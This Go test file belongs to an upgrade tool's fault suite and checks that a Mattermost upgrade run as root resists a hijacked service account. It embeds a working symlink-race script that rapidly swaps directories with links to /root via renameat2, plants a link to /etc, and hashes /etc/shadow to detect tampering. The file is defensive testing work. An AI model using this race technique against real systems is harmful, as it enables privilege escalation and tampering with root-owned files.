//go:build machine

package faults

import (
	"strings"

	"townsquare/infra/localcloud/stage"
)

// attack is the good release on a server whose service account was taken over: a process of it exchanges
// directories with links to root's as fast as it can, wherever that account may write.
func attack() kase {
	return kase{name: "attack/the service's account exchanges directories and links", prepare: attacked, heal: defended, ends: stage.After}
}

// watchedFiles prints all that root has in places where an upgrade changes nothing, and a file that only root
// may read has a copy nowhere.
const watchedFiles = `
find /etc /root /usr/bin /usr/sbin /usr/local/bin -xdev -not -path '/etc/townsquare*' -printf '%p %y %u:%g %m %s %l\n' | sort
sha256sum /etc/passwd /etc/shadow /root/canary
grep -rlF "$(cat /root/canary)" /var/lib/mattermost /opt/townsquare /opt/mattermost/ /tmp /var/tmp 2>/dev/null || true`

func attacked(tr *trial) {
	tr.s.Upgrade(tr.Context(), "rehearse", "--to", stage.After, "--watch", "1s").Must(tr.T) // leaves the release unpacked
	tr.must(tr.host(`
umask 077
head -c 30 /dev/urandom | base64 >/root/canary
# In the version that serves, a file of the account's own, which the next version is to have, too.
runuser -u mattermost -- sh -c 'echo owned >/var/lib/mattermost/data/payload; ln -s /var/lib/mattermost/data/payload "$(readlink -f /opt/mattermost)"/client/images/attack-was-here'
# In the next version, a link to root's in the way there, if the account can put one.
for client in /opt/townsquare/versions/9.10.0*/client; do
	runuser -u mattermost -- sh -c "mv $client/images $client/other && ln -s /etc $client/images" 2>/dev/null || true
done
cat >/run/attack.py <<'SCRIPT'
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)

def exchange(one, other):
    for _ in range(300):
        libc.syscall(316, -100, one.encode(), -100, other.encode(), 2)

while True:
    # Not below data, config and plugins: a backup that is disturbed ends the upgrade before its later steps.
    for top in ["/var/lib/mattermost", "/var/lib/mattermost/logs", *glob.glob("/opt/townsquare/versions/*/client")]:
        if not os.path.isdir(top) or os.path.islink(top) or not os.access(top, os.W_OK):
            continue
        one, other = os.path.join(top, "one"), os.path.join(top, "other")
        try:
            if not os.path.lexists(one):
                os.mkdir(one)
                for name in ["canary", "plugin.json"]:
                    open(os.path.join(one, name), "w").close()
            if not os.path.lexists(other):
                os.symlink("/root", other)
        except OSError:
            continue
        exchange(one, other)
SCRIPT
chmod 644 /run/attack.py
systemd-run --quiet --collect --unit=attack --uid=mattermost --gid=mattermost python3 /run/attack.py`))
	tr.watched = tr.s.Exec(tr.T, watchedFiles)
}

func defended(tr *trial) {
	is := tr.s.Exec(tr.T, watchedFiles)
	if is != tr.watched {
		was := strings.Split(tr.watched, "\n")
		for line := range strings.Lines(is) {
			if line = strings.TrimSuffix(line, "\n"); !strings.Contains(tr.watched, line) {
				tr.Errorf("root's file is now: %s", line)
			}
		}
		tr.Errorf("of %d lines about root's files some changed", len(was))
	}
	tr.must(tr.host("systemctl stop attack; rm -rf /var/lib/mattermost/{one,other} /var/lib/mattermost/*/{one,other} /opt/townsquare/versions/*/client/{one,other}"))
}
